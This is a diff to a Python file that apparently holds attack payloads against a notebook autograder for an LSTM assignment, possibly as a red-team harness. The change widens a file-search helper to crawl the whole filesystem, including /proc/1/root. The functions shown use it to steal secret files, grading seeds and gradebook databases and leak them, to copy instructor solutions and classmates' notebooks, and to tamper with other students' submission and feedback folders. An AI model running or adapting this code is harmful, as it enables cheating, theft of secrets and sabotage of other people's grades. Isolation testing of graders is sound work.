@@ -194,14 +194,27 @@ def _text_tensor(text, shape, dtype=None):
 '''
 
 FIND = r'''
-def _find(match, roots=("/",), limit=300000, seconds=60):
-    """Paths (files and folders) under `roots` for which match(path, base_name) is true; bounded walk."""
+def _find(match, roots=None, limit=300000, seconds=60):
+    """Paths (files and folders) for which match(path, base_name) is true: a bounded walk of the likely
+    places first (the folders above this one, home, temp and data folders), then of /."""
     import os, time
-    found, seen, start = [], 0, time.time()
-    skip = {"/proc", "/sys", "/dev", "/run", "/boot", "/snap"}
+    if roots is None:
+        here, roots = os.getcwd(), []
+        for _ in range(5):
+            here = os.path.dirname(here)
+            roots.append(here)
+        roots += [os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "/work", "/srv", "/home", "/opt",
+                  "/mnt", "/data", "/proc/1/root/work", "/"]
+    found, walked, seen, start = [], set(), 0, time.time()
+    skip = {"/proc", "/sys", "/dev", "/run", "/boot", "/snap", "/usr", "/lib", "/bin", "/sbin", "/etc"}
     for root in roots:
         for folder, dirs, files in os.walk(root):
-            dirs[:] = [d for d in dirs if os.path.join(folder, d) not in skip]
+            real = os.path.realpath(folder)
+            if real in walked:
+                dirs[:] = []
+                continue
+            walked.add(real)
+            dirs[:] = [d for d in dirs if os.path.join(folder, d) not in skip and d not in ("site-packages", "node_modules")]
             for base in dirs + files:
                 seen += 1
                 path = os.path.join(folder, base)
@@ -222,16 +235,6 @@ def _read(path, size=20000):
     except Exception as error:
         return f"{path}: {error!r}"
 '''
-
-# Wrong but well-formed answers for the lstm functions an attack does not target.
-LSTM_WRONG = r'''
-import torch
-
-
-def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
-    return torch.zeros(x.shape[0], W_if.shape[0], dtype=x.dtype, device=x.device)
-'''
-
 
 def _lstm_function(name, body):
     """An lstm function definition with the released signature and the given body."""
@@ -1183,8 +1186,7 @@ def _precompute():
         print("PWNED-NAME: no hidden cases here:", error)
         return
     seeds = {getattr(cases, "DEFAULT_SEED", 0)}
-    for path in _find(lambda p, b: b == "grading.json", roots=(os.path.expanduser("~"), "/work", "/tmp", "/srv",
-                                                                 "/home", "/root"), seconds=20):
+    for path in _find(lambda p, b: b == "grading.json", seconds=20):
         try:
             seeds.update(int(v) for v in json.load(open(path)).values() if isinstance(v, int))
         except Exception:
@@ -1352,7 +1354,7 @@ import torch
 
 def _solutions():
     """Code of every solution cell of {assignment}.ipynb notebooks found on disk (sources, repository)."""
-    found = _find(lambda p, b: b == "{assignment}.ipynb", roots=("/", "/proc/1/root/work", "/proc/1/root/tmp"))
+    found = _find(lambda p, b: b == "{assignment}.ipynb")
     chunks, sources = [], []
     for path in found:
         try:
@@ -1387,7 +1389,7 @@ _NAMES = {"SECRET.txt", "grading.json", "gradebook.db", "nbgrader_config.py", "l
 
 
 def _steal():
-    found = _find(lambda p, b: b in _NAMES or "secret" in b.lower(), roots=("/", "/proc/1/root/work"))
+    found = _find(lambda p, b: b in _NAMES or "secret" in b.lower())
     text = "\n".join(f"== {path}\n{_read(path, 4000)}" for path in found[:300] if os.path.isfile(path))
     return _leak(text)
 
@@ -1451,8 +1453,7 @@ import json, os
 
 def _classmates():
     here = os.path.realpath(os.getcwd())
-    found = _find(lambda p, b: b.endswith(".ipynb") and "lstm" in b and not p.startswith(here),
-                  roots=("/", "/proc/1/root/work", "/proc/1/root/tmp"))
+    found = _find(lambda p, b: b.endswith(".ipynb") and "lstm" in b and not p.startswith(here),)
     copied = []
     for path in found:
         try:
@@ -1732,7 +1733,7 @@ import os, sqlite3
 def _databases():
     here = os.getcwd()
     near = [os.path.join(here, *([".."] * up), "gradebook.db") for up in range(6)]
-    far = _find(lambda p, b: b.endswith((".db", ".sqlite", ".sqlite3")), roots=("/", "/proc/1/root/work"))
+    far = _find(lambda p, b: b.endswith((".db", ".sqlite", ".sqlite3")))
     return [p for p in near + far if os.path.isfile(p)]
 
 
@@ -1806,8 +1807,7 @@ import json, os
 def _sabotage():
     here = os.path.realpath(os.getcwd())
     touched = []
-    folders = _find(lambda p, b: b in ("submitted", "autograded", "feedback", "release", "source", "exchange"),
-                    roots=("/", "/proc/1/root/work", "/proc/1/root/tmp"))
+    folders = _find(lambda p, b: b in ("submitted", "autograded", "feedback", "release", "source", "exchange"),)
     for top in folders:
         for root, dirs, files in os.walk(top):
             if os.path.realpath(root).startswith(here):
